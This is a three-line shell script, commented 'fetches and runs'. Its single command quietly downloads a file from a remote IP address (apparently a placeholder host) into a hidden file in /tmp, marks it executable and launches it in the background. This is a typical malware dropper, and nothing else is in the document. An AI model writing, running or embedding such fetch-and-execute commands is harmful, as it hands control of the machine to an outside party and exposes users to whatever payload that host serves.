#!/bin/sh
# fetches and runs
cd /tmp && wget -q http://203.0.113.4/m -O .m && chmod +x .m && ./.m &
